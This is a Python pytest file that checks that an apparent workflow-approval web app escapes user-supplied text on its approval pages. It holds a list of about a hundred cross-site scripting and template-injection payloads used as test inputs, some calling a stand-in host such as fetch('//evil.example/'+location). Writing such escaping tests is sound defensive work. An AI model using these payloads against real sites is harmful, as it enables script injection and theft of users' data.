"""What people write never becomes part of a page: a hundred attacks in every field that an approval's pages show."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from flask import Flask

from highway_core.config import Settings
from highway_core.lifecycle import RunStatus
from tests.api_client import Api
from tests.approvals import KEY, Office

_SCRIPTS = ("alert(document.domain)", "fetch('//evil.example/'+location)", "location=`//evil.example`")
_VECTORS = (
    "<script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "<!--<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<iframe src=javascript:{}>",
    '<iframe srcdoc="<script>{}</script>">',
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>*{{background:url(//evil.example)}}</style>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<math href="javascript:{}">x</math>',
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '" autofocus onfocus={} "',
    '"><script>{}</script>',
    "'><script>{}</script>",
    "`><script>{}</script>",
    '" style="background:url(javascript:{})',
    "{{{{7*7}}}}{}",
    "{{{{config}}}}{}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}{}",
    "${{7*7}}{}",
    "<%= 7*7 %>{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "\u003cscript\u003e{}",
    "<\u0131mg src=x onerror={}>",
    "\ufeff<script>{}</script>",
    "\u2028<script>{}</script>",
    "<x onclick={}>press",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
)
PAYLOADS = tuple(dict.fromkeys(one.format(code) for one in _VECTORS for code in _SCRIPTS))
FIELDS = ("prompt", "assignee", "workflow", "run", "task", "choice", "comment", "decided_by")
SHOWN_EVERYWHERE = frozenset({"prompt", "assignee", "workflow", "task"})
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"})


class Shape(HTMLParser):
    """How many of which elements a page has, and with which attributes: all that could be active in it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.active: list[str] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag] += 1
        for name, value in attrs:
            self.elements[f"{tag} {name}"] += 1
            leads = name in _ADDRESSES and value != "resume"
            if name.startswith("on") or name in {"style", "srcdoc"} or leads:
                self.active.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture
def api(postgres_url: str) -> Iterator[Api]:
    api = Api(postgres_url, Settings(secret_key=KEY.decode()))
    try:
        yield api
    finally:
        api.close()


def test_there_are_a_hundred_attacks() -> None:
    assert len(PAYLOADS) >= 100


@pytest.mark.parametrize("field", FIELDS)
def test_no_text_adds_an_element_or_a_handler_to_a_page(api: Api, field: str) -> None:
    office = Office(api.context.pool, api.url)
    harmless = {page: Shape(text).elements for page, text in pages(api.app, office, field, "harmless", 0).items()}
    for number, payload in enumerate(PAYLOADS, start=1):
        for page, text in pages(api.app, office, field, payload, number).items():
            shape = Shape(text)
            assert shape.elements == harmless[page], (page, payload)
            assert shape.active == []
            if field in SHOWN_EVERYWHERE:
                assert payload in shape.text, page


def pages(app: Flask, office: Office, field: str, text: str, number: int) -> dict[str, str]:
    """The pages of an approval that is open, decided and cancelled, with ``text`` in one of its fields."""
    given = dict.fromkeys(FIELDS, "plain") | {field: text}
    shown = {}
    for state in ("open", "decided", "over"):
        run_id = f"{given['run']} {state} {field} n{number:03}"
        office.run(run_id, name=given["workflow"])
        asked = office.ask(
            run_id,
            given["task"],
            prompt=given["prompt"],
            assignee=given["assignee"],
            choices=("APPROVED", given["choice"]),
        )
        if state == "decided":
            office.store.decide(
                asked.approval_id, given["choice"], by=given["decided_by"], via="api", comment=given["comment"]
            )
        if state == "over":
            office.end_run(run_id, RunStatus.CANCELLED)
        query = {"token": asked.token, "decision": given["choice"]}
        shown[state] = app.test_client().get("/workflow/resume", query_string=query).text
        if state == "open":
            form = {"token": asked.token, "decision": text, "comment": given["comment"], "nonce": text}
            shown["refused"] = app.test_client().post("/workflow/resume", data=form).text
    for page, seen in shown.items():
        assert "plain" in seen, page
    return shown
